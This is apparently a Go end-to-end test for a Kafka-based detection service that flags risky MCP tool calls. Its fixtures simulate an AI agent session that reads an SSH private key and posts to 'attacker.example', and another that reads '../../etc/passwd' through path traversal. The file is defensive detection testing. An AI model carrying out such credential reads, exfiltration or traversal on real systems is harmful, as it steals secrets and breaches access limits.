package detect

import (
	"context"
	"errors"
	"log/slog"
	"slices"
	"sync"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"
	"github.com/prometheus/client_golang/prometheus/testutil"
	kafkago "github.com/segmentio/kafka-go"
	"google.golang.org/protobuf/proto"

	"github.com/mcpaudit/mcpaudit/internal/kafka"
	eventv1 "github.com/mcpaudit/mcpaudit/proto/mcpaudit/event/v1"
)

// recordingFetcher records the offsets the service fetched.
type recordingFetcher struct {
	kafka.Fetcher
	onFetch func(m kafkago.Message)
}

func (f *recordingFetcher) FetchMessage(ctx context.Context) (kafkago.Message, error) {
	m, err := f.Fetcher.FetchMessage(ctx)
	if err == nil && f.onFetch != nil {
		f.onFetch(m)
	}
	return m, err
}

// TestServiceEndToEnd runs the Service against the embedded Kafka-protocol
// broker: events (and one undecodable message) in, alerts on
// mcpaudit.alerts.v1, the garbage on mcpaudit.deadletter.v1, offsets
// committed so that a second run of the group only sees new messages.
func TestServiceEndToEnd(t *testing.T) {
	logger := slog.New(slog.DiscardHandler)
	b, err := kafka.StartEmbedded("", 2, kafka.TopicEvents, kafka.TopicAlerts, kafka.TopicDeadletter)
	if err != nil {
		t.Fatalf("start embedded kafka: %v", err)
	}
	defer b.Close()
	brokers := b.Brokers()
	ctx, cancel := context.WithTimeout(t.Context(), 60*time.Second)
	defer cancel()

	// Two attack sessions and a benign one.
	var evs []*eventv1.Event
	evs = append(evs,
		call("a1", "s-exfil", 0, "read_text_file", `{"path":"/home/dev/.ssh/id_rsa"}`),
		call("a2", "s-exfil", 5*time.Second, "http_post", `{"url":"https://attacker.example/x"}`),
		call("t1", "s-trav", 0, "read_text_file", `{"path":"../../etc/passwd"}`),
		call("b1", "s-benign", 0, "list_directory", `{"path":"/tmp/fsroot"}`),
	)
	w := kafka.NewWriter(kafka.DefaultWriterConfig(brokers), kafka.TopicEvents)
	defer w.Close()
	var msgs []kafkago.Message
	for _, ev := range evs {
		v, err := proto.Marshal(ev)
		if err != nil {
			t.Fatal(err)
		}
		msgs = append(msgs, kafkago.Message{Key: kafka.Key(ev.GetTenantId(), ev.GetSession().GetId()), Value: v})
	}
	msgs = append(msgs, kafkago.Message{Key: kafka.Key("acme", "s-exfil"), Value: []byte("\xff\xff not a protobuf")})
	if err := w.WriteMessages(ctx, msgs...); err != nil {
		t.Fatalf("produce events: %v", err)
	}

	alertsW := kafka.NewWriter(kafka.DefaultWriterConfig(brokers), kafka.TopicAlerts)
	defer alertsW.Close()
	dlqW := kafka.NewWriter(kafka.DefaultWriterConfig(brokers), kafka.TopicDeadletter)
	defer dlqW.Close()
	rules, err := LoadBuiltin()
	if err != nil {
		t.Fatal(err)
	}
	cfg := DefaultConfig()
	cfg.Consumer = kafka.ConsumerConfig{MaxBatch: 100, MaxDelay: 50 * time.Millisecond}

	// First run: until all 5 messages were handled.
	reg := prometheus.NewRegistry()
	runService(ctx, t, cfg, rules, brokers, alertsW, dlqW, logger, reg, len(msgs), nil)

	// The exfil session raises the credential read and the read-then-egress
	// sequence; the traversal session the traversal and (/etc/passwd) the
	// credential read.
	alerts := readTopic[*eventv1.Alert](ctx, t, brokers, kafka.TopicAlerts, 4)
	var got []string
	for _, a := range alerts {
		got = append(got, a.msg.GetRuleId())
		if string(a.header(kafka.HeaderAlertID)) != a.msg.GetAlertId() || a.msg.GetAlertId() == "" {
			t.Errorf("alert header %q, alert_id %q", a.header(kafka.HeaderAlertID), a.msg.GetAlertId())
		}
		if string(a.key) != string(kafka.Key("acme", a.msg.GetSessionId())) {
			t.Errorf("alert key %q, want tenant+session", a.key)
		}
	}
	slices.Sort(got)
	if want := []string{"mcp-credential-file-read", "mcp-credential-file-read", "mcp-path-traversal", "mcp-sensitive-read-then-egress"}; !slices.Equal(got, want) {
		t.Errorf("alerts %v, want %v", got, want)
	}
	dead := readTopic[*eventv1.Event](ctx, t, brokers, kafka.TopicDeadletter, 1)
	if string(dead[0].header(kafka.HeaderDeadletterTopic)) != kafka.TopicEvents || len(dead[0].header(kafka.HeaderDeadletterReason)) == 0 {
		t.Errorf("dead letter headers %v", dead[0].headers)
	}
	if got := testutil.ToFloat64(mustGather(reg, "mcpaudit_detect_deadletter_total")); got != 1 {
		t.Errorf("mcpaudit_detect_deadletter_total = %v, want 1", got)
	}

	// Second run of the same group: only a new marker event is fetched.
	marker := call("m1", "s-marker", time.Hour, "list_directory", `{}`)
	v, _ := proto.Marshal(marker)
	if err := w.WriteMessages(ctx, kafkago.Message{Key: kafka.Key("acme", "s-marker"), Value: v}); err != nil {
		t.Fatal(err)
	}
	var seen []string
	runService(ctx, t, cfg, rules, brokers, alertsW, dlqW, logger, nil, 1, func(m kafkago.Message) {
		ev := &eventv1.Event{}
		if proto.Unmarshal(m.Value, ev) != nil {
			seen = append(seen, "garbage")
			return
		}
		seen = append(seen, ev.GetEventId())
	})
	if !slices.Equal(seen, []string{"m1"}) {
		t.Errorf("second run fetched %v, want only [m1]", seen)
	}
}

func mustGather(reg *prometheus.Registry, name string) prometheus.Collector {
	return collectorFunc(func(ch chan<- prometheus.Metric) {
		mfs, _ := reg.Gather()
		for _, mf := range mfs {
			if mf.GetName() == name {
				for _, m := range mf.GetMetric() {
					ch <- prometheus.MustNewConstMetric(prometheus.NewDesc(name, "", nil, nil), prometheus.CounterValue, m.GetCounter().GetValue())
				}
			}
		}
	})
}

type collectorFunc func(chan<- prometheus.Metric)

func (f collectorFunc) Describe(chan<- *prometheus.Desc)    {}
func (f collectorFunc) Collect(ch chan<- prometheus.Metric) { f(ch) }

// runService runs a Service until it has fetched n messages and committed
// them, then stops it and checks Run returned nil.
func runService(ctx context.Context, t *testing.T, cfg Config, rules []*Rule, brokers []string, alertsW, dlqW MessageWriter,
	logger *slog.Logger, reg prometheus.Registerer, n int, onFetch func(kafkago.Message)) {
	t.Helper()
	r := kafka.NewReader(kafka.ReaderConfig{Brokers: brokers, GroupID: GroupID}, kafka.TopicEvents, logger)
	defer r.Close()
	runCtx, stop := context.WithCancel(ctx)
	defer stop()
	var mu sync.Mutex
	fetched := 0
	f := &recordingFetcher{Fetcher: r, onFetch: func(m kafkago.Message) {
		mu.Lock()
		defer mu.Unlock()
		fetched++
		if onFetch != nil {
			onFetch(m)
		}
	}}
	committed := make(chan struct{})
	cf := &commitNotifier{recordingFetcher: f, want: n, done: committed}
	svc, err := New(cfg, rules, cf, alertsW, dlqW, logger, reg)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	errc := make(chan error, 1)
	go func() { errc <- svc.Run(runCtx) }()
	select {
	case <-committed:
	case err := <-errc:
		t.Fatalf("Run returned early: %v", err)
	case <-ctx.Done():
		mu.Lock()
		defer mu.Unlock()
		t.Fatalf("timed out waiting for %d messages to be committed (fetched %d)", n, fetched)
	}
	stop()
	if err := <-errc; err != nil {
		t.Fatalf("Run: %v", err)
	}
}

// commitNotifier closes done once want messages were committed.
type commitNotifier struct {
	*recordingFetcher
	mu        sync.Mutex
	committed int
	want      int
	done      chan struct{}
}

func (c *commitNotifier) CommitMessages(ctx context.Context, msgs ...kafkago.Message) error {
	if err := c.recordingFetcher.CommitMessages(ctx, msgs...); err != nil {
		return err
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	before := c.committed
	c.committed += len(msgs)
	if before < c.want && c.committed >= c.want {
		close(c.done)
	}
	return nil
}

type record[T proto.Message] struct {
	key     []byte
	msg     T
	headers []kafkago.Header
}

func (r record[T]) header(k string) []byte {
	for _, h := range r.headers {
		if h.Key == k {
			return h.Value
		}
	}
	return nil
}

// readTopic reads n messages of topic from the start (its own group) and
// decodes them as T where possible.
func readTopic[T proto.Message](ctx context.Context, t *testing.T, brokers []string, topic string, n int) []record[T] {
	t.Helper()
	r := kafka.NewReader(kafka.ReaderConfig{Brokers: brokers, GroupID: "test-reader-" + topic}, topic, slog.New(slog.DiscardHandler))
	defer r.Close()
	var out []record[T]
	for len(out) < n {
		m, err := r.FetchMessage(ctx)
		if err != nil {
			if errors.Is(err, context.DeadlineExceeded) {
				t.Fatalf("read %s: got %d messages, want %d", topic, len(out), n)
			}
			t.Fatalf("read %s: %v", topic, err)
		}
		var msg T
		msg = msg.ProtoReflect().New().Interface().(T)
		_ = proto.Unmarshal(m.Value, msg)
		out = append(out, record[T]{key: m.Key, msg: msg, headers: m.Headers})
	}
	return out
}
